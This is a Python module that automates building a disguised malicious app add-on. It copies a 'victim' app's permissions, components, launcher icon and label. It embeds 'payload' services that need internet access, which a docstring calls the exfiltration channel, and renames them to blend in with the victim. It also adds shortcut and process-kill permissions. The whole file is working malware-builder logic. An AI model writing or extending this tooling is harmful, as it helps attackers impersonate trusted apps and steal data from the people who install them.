"""The add-on customization pipeline.

Transforms (victim manifest, add-on template, payload catalog) into a
customized add-on manifest plus a trimmed payload manifest, in four steps:

  1. permissions/features: the template's declare-everything set is replaced
     by the victim's, plus the shortcut and process-kill extras;
  2. payload trimming: catalog services whose permissions the victim does
     not declare are dropped, the rest are renamed to correlate with the
     victim, and the payload manifest declares exactly what survives;
  3. components: victim components are copied name-for-name, payload
     components are embedded, and the template's framework components are
     renamed by swapping their "Plugin" prefix for the victim's label;
  4. resources: the victim's launcher icon and label are stored as the
     add-on's shortcut resources.

The payload catalog is a services-only manifest that ``check_catalog``
accepts. The pipeline is a pure transformation (identical outputs for identical
inputs, durations aside) and safe to fan out across workers.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field, replace

from .manifest import (
    KIND_KEYS,
    AppManifest,
    Component,
    SchemaError,
    extract_launcher_resources,
)
from .permissions import ADDON_EXTRA_PERMISSIONS, INTERNET, PAYLOAD_STORES

FRAMEWORK_PREFIX = "Plugin"


class CustomizationInvariantError(RuntimeError):
    """A pipeline output violates one of its contracted laws."""


@dataclass
class CustomizationResult:
    addon: AppManifest
    malicious: AppManifest
    rename_map: dict[str, str]
    report: list[dict] = field(default_factory=list)


def check_catalog(m: AppManifest) -> AppManifest:
    """Return ``m`` if it is a valid payload catalog, else raise SchemaError:
    services only, at least one, each requiring INTERNET (the exfiltration
    channel) and carrying a known payload tag."""
    if m.activities or m.receivers or m.providers:
        raise SchemaError(f"{m.package}: payload catalogs declare services only")
    if not m.services:
        raise SchemaError(f"{m.package}: payload catalog has no services")
    for svc in m.services:
        if INTERNET not in svc.requires_permissions:
            raise SchemaError(f"{svc.name}: catalog services must require INTERNET")
        if svc.payload is None:
            raise SchemaError(f"{svc.name}: catalog service lacks a payload tag")
        if svc.payload not in PAYLOAD_STORES:
            raise SchemaError(f"{svc.name}: unknown payload tag {svc.payload!r}")
    return m


def _correlated_name(name: str, victim_label: str) -> str:
    prefix = "".join(victim_label.split())
    if name.startswith(FRAMEWORK_PREFIX):
        return prefix + name[len(FRAMEWORK_PREFIX):]
    return name


def _named(comp: Component, name: str) -> Component:
    if name == comp.name:
        return comp
    return Component(name, comp.kind, comp.launcher, comp.intents,
                     comp.requires_permissions, comp.payload, comp.stub)


def step1_permissions(victim: AppManifest, addon_template: AppManifest) -> AppManifest:
    """Replace the template's permission/feature sets with the victim's plus extras."""
    return replace(
        addon_template,
        permissions=victim.permissions | ADDON_EXTRA_PERMISSIONS,
        features=victim.features,
    )


def step2_trim_malicious(victim: AppManifest, catalog: AppManifest) -> AppManifest:
    """Keep only catalog services the victim's permissions can feed.

    Survivors are renamed to correlate with the victim, and the output
    manifest declares exactly the union of their required permissions:
    nothing beyond what the victim already declares.
    """
    kept = [
        svc for svc in catalog.services
        if svc.requires_permissions <= victim.permissions
    ]
    renamed = tuple(_named(svc, _correlated_name(svc.name, victim.label)) for svc in kept)
    permissions = frozenset().union(*(svc.requires_permissions for svc in kept)) \
        if kept else frozenset()
    return AppManifest(
        package=catalog.package,
        label=catalog.label,
        version=catalog.version,
        permissions=permissions,
        services=renamed,
        launcher_icon=catalog.launcher_icon,
    )


def _with_components(m: AppManifest, by_kind: dict[str, list[Component]]) -> AppManifest:
    return replace(m, **{KIND_KEYS[kind]: comps for kind, comps in by_kind.items()})


def step3_components(
    victim: AppManifest, malicious: AppManifest, addon: AppManifest
) -> tuple[AppManifest, dict[str, str], AppManifest]:
    """Copy victim and payload components into the add-on; rename the framework rest.

    Returns the merged add-on, the framework rename map, and the payload
    manifest carrying any renames forced on its components. Collisions are
    resolved by suffixing ``_c<k>`` with the smallest k that frees the name;
    victim components are placed first so their names always survive verbatim.
    """
    used: set[str] = set()
    by_kind: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}
    payload: dict[str, list[Component]] = {k: [] for k in KIND_KEYS}

    def free(name: str) -> str:
        final, k = name, 0
        while final in used:
            k += 1
            final = f"{name}_c{k}"
        used.add(final)
        return final

    # Victim and payload components enter the add-on with their name, kind
    # and intents only: launcher flags and catalog bookkeeping are dropped
    # so the add-on keeps a single launcher of its own.
    for comp in victim.components():
        by_kind[comp.kind].append(Component(free(comp.name), comp.kind, intents=comp.intents))
    for comp in malicious.components():
        name = free(comp.name)
        by_kind[comp.kind].append(Component(name, comp.kind, intents=comp.intents))
        payload[comp.kind].append(_named(comp, name))

    rename_map: dict[str, str] = {}
    for comp in addon.components():
        name = rename_map[comp.name] = free(_correlated_name(comp.name, victim.label))
        by_kind[comp.kind].append(_named(comp, name))

    return (_with_components(addon, by_kind), rename_map,
            _with_components(malicious, payload))


def step4_resources(victim: AppManifest, addon: AppManifest) -> AppManifest:
    """Store the victim's launcher icon and label as the add-on's shortcut resources."""
    icon, label = extract_launcher_resources(victim)
    return replace(addon, shortcut_icon=icon, shortcut_label=label)


def customize(victim: AppManifest, addon_template: AppManifest,
              catalog: AppManifest) -> CustomizationResult:
    """Run steps 1-4 in order, timing each with a monotonic clock."""
    report: list[dict] = []

    def timed(step: str, fn, detail: str):
        start = time.perf_counter()
        out = fn()
        report.append({
            "step": step,
            "detail": detail,
            "duration_ms": (time.perf_counter() - start) * 1000.0,
        })
        return out

    addon = timed("permissions", lambda: step1_permissions(victim, addon_template),
                  "copy victim permissions and features, add shortcut/kill extras")
    malicious = timed("trim_payload", lambda: step2_trim_malicious(victim, catalog),
                      "drop payload services the victim cannot feed")
    addon, rename_map, malicious = timed(
        "components", lambda: step3_components(victim, malicious, addon),
        "embed victim and payload components, rename framework stubs")
    addon = timed("resources", lambda: step4_resources(victim, addon),
                  "copy victim launcher icon and label for the shortcut")

    result = CustomizationResult(addon=addon, malicious=malicious,
                                 rename_map=rename_map, report=report)
    validate_result(victim, result)
    return result


def validate_result(victim: AppManifest, result: CustomizationResult) -> None:
    """Check the three output laws; raises CustomizationInvariantError."""
    expected = victim.permissions | ADDON_EXTRA_PERMISSIONS
    if result.addon.permissions != expected:
        raise CustomizationInvariantError(
            f"addon permissions {sorted(result.addon.permissions)} != "
            f"victim set plus extras {sorted(expected)}"
        )
    if not result.malicious.permissions <= victim.permissions:
        extra = result.malicious.permissions - victim.permissions
        raise CustomizationInvariantError(
            f"payload declares permissions beyond the victim's: {sorted(extra)}"
        )
    addon_names = {(c.kind, c.name) for c in result.addon.components()}
    for comp in victim.components():
        if (comp.kind, comp.name) not in addon_names:
            raise CustomizationInvariantError(
                f"victim component ({comp.kind}, {comp.name}) missing from addon"
            )
